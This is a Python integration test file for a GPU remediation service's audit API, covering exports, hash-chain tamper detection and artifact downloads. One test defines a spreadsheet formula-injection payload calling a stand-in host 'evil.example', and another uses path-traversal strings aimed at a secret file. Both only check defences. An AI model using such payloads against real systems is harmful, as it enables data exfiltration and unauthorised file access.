"""Auditors: filtered history, cursor pages, streamed exports, tamper evidence, raw deliveries
and artifacts."""

from __future__ import annotations

import collections
import csv
import hashlib
import io
import json
import re

import pytest
import sqlalchemy as sa

from remediator.adapters.db import tables
from remediator.cli import client as client_mod
from tests.integration.operators.conftest import GATED, alert_body, waiting_step

TWO_NODES = """
name: recorder
match: {alertname: [GPUXidError79, GPUECCUncorrectableError]}
steps:
  - {id: note, action: test.record, params: {label: "{{ target.node }}"}}
"""


async def _history(h):
    await h.post(alert_body(node="gpu-node-01"))
    await h.post(alert_body(node="gpu-node-02", alertname="GPUECCUncorrectableError"))
    await h.settle()


async def _get(h, path, **params):
    response = await h.client.get(path, params=params)
    assert response.status == 200, await response.text()
    return await response.json()


async def test_events_and_runs_filter_by_node_alert_playbook_action_outcome_principal(
    make_harness,
):
    h = await make_harness(TWO_NODES)
    await _history(h)
    runs = (await _get(h, "/api/v1/audit/runs", node="gpu-node-02"))["items"]
    assert [r["node"] for r in runs] == ["gpu-node-02"]
    by_alert = (await _get(h, "/api/v1/audit/runs", alertname="GPUXidError79"))["items"]
    assert [r["node"] for r in by_alert] == ["gpu-node-01"]
    gpu = "GPU-5fa3c0de-0000-4000-8000-000000000001"
    assert len((await _get(h, "/api/v1/audit/runs", gpu=gpu))["items"]) == 2
    assert len((await _get(h, "/api/v1/audit/runs", outcome="succeeded"))["items"]) == 2
    assert (await _get(h, "/api/v1/audit/runs", playbook="nope"))["items"] == []
    events = (await _get(h, "/api/v1/audit/events", node="gpu-node-01"))["items"]
    assert events
    assert all(e["runId"] == by_alert[0]["id"] for e in events)
    steps = (await _get(h, "/api/v1/audit/events", action="test.record"))["items"]
    assert steps
    assert all(e["stepId"] is not None for e in steps)
    engine = await _get(h, "/api/v1/audit/events", principal="engine", outcome="succeeded")
    assert {e["toStatus"] for e in engine["items"]} == {"succeeded"}
    fingerprint = by_alert[0]["id"]
    assert fingerprint
    later = (await _get(h, "/api/v1/audit/events", since="2100-01-01T00:00:00Z"))["items"]
    assert later == []
    bad = await h.client.get("/api/v1/audit/events", params={"since": "yesterday"})
    assert bad.status == 400
    unknown = await h.client.get("/api/v1/audit/events", params={"colour": "red"})
    assert unknown.status == 400


async def test_cursor_pages_cover_every_event_once(make_harness):
    h = await make_harness(TWO_NODES)
    await _history(h)
    seen, cursor = [], None
    while True:
        params = {"limit": "3"} | ({"cursor": cursor} if cursor else {})
        page = await _get(h, "/api/v1/audit/events", **params)
        seen += [e["id"] for e in page["items"]]
        cursor = page["nextCursor"]
        if cursor is None:
            break
    everything = (await _get(h, "/api/v1/audit/events", limit="500"))["items"]
    assert seen == [e["id"] for e in everything]
    assert len(seen) == len(set(seen)) > 6


async def test_exports_stream_every_event_with_hashes_and_verify_offline(make_harness, tmp_path):
    h = await make_harness(TWO_NODES)
    await _history(h)
    response = await h.client.get("/api/v1/audit/export")
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("application/x-ndjson")
    text = await response.text()
    *lines, trailer = [json.loads(line) for line in text.splitlines()]
    assert lines[0]["prevHash"] == "0" * 64
    assert all("hash" in e for e in lines)
    assert trailer["trailer"] == {
        "filtered": False,
        "count": len(lines),
        "firstId": lines[0]["id"],
        "lastId": lines[-1]["id"],
        "lastHash": lines[-1]["hash"],
    }
    path = tmp_path / "export.jsonl"
    path.write_text(text)
    assert client_mod.verify_export(path).ok
    edited = [dict(e) for e in lines]
    edited[2]["reason"] = "edited"
    path.write_text("".join(json.dumps(e) + "\n" for e in [*edited, trailer]))
    report = client_mod.verify_export(path)
    assert not report.ok
    assert report.first_broken_id == lines[2]["id"]
    as_csv = await h.client.get("/api/v1/audit/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(await as_csv.text())))
    assert [int(r["id"]) for r in rows] == [e["id"] for e in lines]
    assert rows[-1]["hash"] == lines[-1]["hash"]
    assert list(rows[0]) == list(lines[0]), "CSV columns are the JSON Lines fields"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULAS = f"""
name: formulas
match: {{alertname: [{json.dumps(FORMULA)}, "'quoted"]}}
steps:
  - {{id: note, action: test.record, params: {{label: "{{{{ target.node }}}}"}}}}
"""


async def test_the_csv_export_keeps_alert_text_a_spreadsheet_would_compute_as_text(
    make_harness,
):
    """A run's reason starts with its alert's name, which whoever shapes the alert chooses:
    in CSV a cell a spreadsheet would read as a formula starts with ``'``, as does one that
    started with ``'`` (one quote taken off gives the text back); JSON Lines stays exact."""
    h = await make_harness(FORMULAS)
    await h.post(alert_body(node="gpu-node-01", alertname=FORMULA))
    await h.post(alert_body(node="gpu-node-02", alertname="'quoted"))
    await h.settle()
    text = await (await h.client.get("/api/v1/audit/export")).text()
    *lines, _trailer = [json.loads(line) for line in text.splitlines()]
    as_csv = await h.client.get("/api/v1/audit/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(await as_csv.text())))
    assert [int(r["id"]) for r in rows] == [e["id"] for e in lines]
    reasons = [e["reason"] for e in lines]
    assert f"{FORMULA} fired" in reasons
    assert "'quoted fired" in reasons
    cells = [r["reason"] for r in rows]
    assert f"'{FORMULA} fired" in cells
    assert "''quoted fired" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    for cell, event in zip(cells, lines, strict=True):
        assert (cell[1:] if cell.startswith("'") else cell) == (event["reason"] or "")


async def test_offline_verification_takes_exports_with_the_stores_field_names(
    make_harness, tmp_path
):
    """Exports written before the API named its keys in camelCase (``run_id``, ``prev_hash``)
    still verify, and an edit in one is still found."""
    h = await make_harness(TWO_NODES)
    await _history(h)
    text = await (await h.client.get("/api/v1/audit/export")).text()
    *lines, trailer = [json.loads(line) for line in text.splitlines()]
    assert {"runId", "stepId", "fromStatus", "toStatus", "prevHash", "keyId"} <= set(lines[0])
    older = [
        {
            re.sub("([A-Z])", lambda m: "_" + m.group(1).lower(), key): value
            for key, value in e.items()
        }
        for e in lines
    ]
    assert {"run_id", "prev_hash", "to_status", "key_id"} <= set(older[0])
    path = tmp_path / "older.jsonl"
    assert _write(path, older, trailer).ok
    older[2]["to_status"] = "succeeded" if older[2]["to_status"] != "succeeded" else "failed"
    edited = _write(path, older, trailer)
    assert (edited.ok, edited.first_broken_id) == (False, older[2]["id"])


def _write(path, events, trailer):
    path.write_text("".join(json.dumps(e) + "\n" for e in [*events, trailer]))
    return client_mod.verify_export(path)


async def test_offline_verification_catches_removed_and_cut_lines(make_harness, tmp_path):
    h = await make_harness(TWO_NODES)
    await _history(h)
    text = await (await h.client.get("/api/v1/audit/export")).text()
    *lines, trailer = [json.loads(line) for line in text.splitlines()]
    path = tmp_path / "export.jsonl"
    assert _write(path, lines, trailer).ok

    middle = _write(path, lines[:3] + lines[4:], trailer)
    assert (middle.ok, middle.reason) == (
        False,
        f"the trailer says events {len(lines)}, the file holds {len(lines) - 1}",
    )
    recounted = dict(trailer["trailer"], count=len(lines) - 1)
    middle = _write(path, lines[:3] + lines[4:], {"trailer": recounted})
    assert not middle.ok
    assert middle.first_broken_id == lines[4]["id"]  # the chain does not link across the hole

    cut = tmp_path / "cut.jsonl"
    cut.write_text("".join(json.dumps(e) + "\n" for e in lines[:-2]))  # no trailer either
    assert client_mod.verify_export(cut).reason == "no trailer line: the file is cut"
    first_gone = _write(path, lines[1:], trailer)
    assert not first_gone.ok
    assert "first id" in first_gone.reason or "events" in first_gone.reason

    filtered = await h.client.get("/api/v1/audit/export", params={"kind": "run.created"})
    *chosen, chosen_trailer = [json.loads(line) for line in (await filtered.text()).splitlines()]
    assert chosen_trailer["trailer"]["filtered"] is True
    assert len(chosen) >= 2
    assert _write(path, chosen, chosen_trailer).ok  # ids skip, the filter says so
    assert not _write(path, chosen[1:], chosen_trailer).ok


async def _tamper(h, statement):
    async with h.components.db.write("tamper") as conn:
        await conn.execute(statement)


A = tables.audit_events


async def test_verifying_reads_each_table_once_when_it_fits_one_batch(make_harness):
    """Every read of the walk waits its turn for a connection: on a busy server the empty
    read after the last batch of each table made verification take seconds."""
    h = await make_harness(TWO_NODES)
    await _history(h)
    reads: list[str] = []
    observe = h.components.db.latency_observer
    h.components.db.latency_observer = lambda op, took: (reads.append(op), observe(op, took))
    assert (await _get(h, "/api/v1/audit/verify"))["ok"] is True
    walked = collections.Counter(op for op in reads if op.startswith("audit.verify."))
    assert walked
    assert set(walked.values()) == {1}, walked


@pytest.mark.parametrize("how", ["content", "swap", "delete_middle", "delete_last"])
async def test_tampering_with_one_audit_row_is_detected(make_harness, how):
    h = await make_harness(TWO_NODES)
    await _history(h)
    assert (await _get(h, "/api/v1/audit/verify"))["ok"] is True
    if how == "content":
        await _tamper(h, sa.update(A).where(A.c.id == 4).values(actor="mallory"))
    elif how == "swap":
        await _tamper(h, sa.update(A).where(A.c.id == 4).values(id=-4))
        await _tamper(h, sa.update(A).where(A.c.id == 5).values(id=4))
        await _tamper(h, sa.update(A).where(A.c.id == -4).values(id=5))
    elif how == "delete_middle":
        await _tamper(h, sa.delete(A).where(A.c.id == 4))
    else:
        last = (await _get(h, "/api/v1/audit/events", limit="1"))["items"][0]["id"]
        await _tamper(h, sa.delete(A).where(A.c.id == last))
    report = await _get(h, "/api/v1/audit/verify")
    assert report["ok"] is False
    expected = {"content": 4, "swap": 4, "delete_middle": 5}.get(how)
    if expected is not None:
        assert report["firstBrokenId"] == expected
    offline = await client_mod.verify_database(h.components.settings.database_url)
    assert not offline.ok


async def test_a_run_links_its_deliveries_and_artifacts(make_harness, tmp_path):
    artifacts = tmp_path / "artifacts"
    (artifacts / "gpu-node-03").mkdir(parents=True)
    report = artifacts / "gpu-node-03" / "1-2-nvidia-bug-report.log.gz"
    report.write_bytes(b"bug report")
    (tmp_path / "secret.txt").write_text("not for you")
    h = await make_harness(GATED, artifact_dir=artifacts)
    await h.post(alert_body())
    await h.settle()
    run_id, _ = await waiting_step(h)
    found = await _get(h, f"/api/v1/runs/{run_id}")
    [delivery] = found["links"]["deliveries"]
    raw = await _get(h, delivery)
    assert json.loads(raw["body"]) == json.loads(alert_body())
    download = await h.client.get("/api/v1/artifacts/gpu-node-03/1-2-nvidia-bug-report.log.gz")
    assert download.status == 200
    assert (
        hashlib.sha256(await download.read()).hexdigest()
        == hashlib.sha256(b"bug report").hexdigest()
    )
    for path in ("../secret.txt", "%2e%2e/secret.txt", "gpu-node-03/../../secret.txt"):
        refused = await h.client.get(f"/api/v1/artifacts/{path}")
        assert refused.status == 404, path
    assert (await h.client.get("/api/v1/deliveries/999")).status == 404


async def test_pending_approvals_show_the_alert_with_its_links(make_harness):
    h = await make_harness(GATED)
    await h.post(alert_body())
    await h.settle()
    [item] = (await _get(h, "/api/v1/approvals"))["items"]
    assert item["step"]["key"] == "drain"
    assert item["alert"]["generatorURL"].startswith("http://prometheus.example:9090/graph")
    link = item["alert"]["alertmanagerURL"]
    assert link.startswith("http://alertmanager.example:9093/#/alerts?")
    assert "alertname%3D%22GPUXidError79%22" in link


MANUAL = """
name: manual-note
manual: true
target: {require_node: false}
parameters:
  node: {type: string, required: true}
steps:
  - {id: note, action: test.record, params: {label: "{{ params.node }}"}}
"""


async def test_runs_a_principal_triggered_or_acted_on_page_newest_first(make_harness):
    from remediator.adapters.db import audit as db_audit
    from remediator.engine import lifecycle

    h = await make_harness(MANUAL)
    playbook = h.components.rules.index.get("manual-note")
    ids = {}
    for n, who in enumerate(["alice", "bob", "alice", "bob", "alice", "alice", "bob"]):
        node = f"gpu-node-{n:02d}"
        ids[node] = await h.store.run(
            "t",
            lambda tx, node=node, who=who: lifecycle.create_manual_run(
                tx,
                playbook,
                h.components.registry,
                params={"node": node},
                node=node,
                principal=who,
                dry_run=False,
            ),
        )
    # bob also acted on one of alice's runs (an audit event with him as the actor)
    await h.store.run(
        "t", lambda tx: tx.add_event("note", actor="bob", run_id=ids["gpu-node-04"], reason="x")
    )
    queries = db_audit.AuditQueries(h.components.db)
    expected = sorted(
        [ids[n] for n in ("gpu-node-01", "gpu-node-03", "gpu-node-04", "gpu-node-06")],
        reverse=True,
    )
    seen, cursor = [], None
    while True:
        page = await queries._principal_runs(
            db_audit.Filters(principal="bob"), limit=1, cursor=cursor, chunk=2
        )
        seen += [r.id for r in page.items]
        if page.next_cursor is None:
            break
        cursor = int(page.next_cursor)
    assert seen == expected
    api = (await _get(h, "/api/v1/audit/runs", principal="bob", node="gpu-node-04"))["items"]
    assert [r["id"] for r in api] == [ids["gpu-node-04"]]
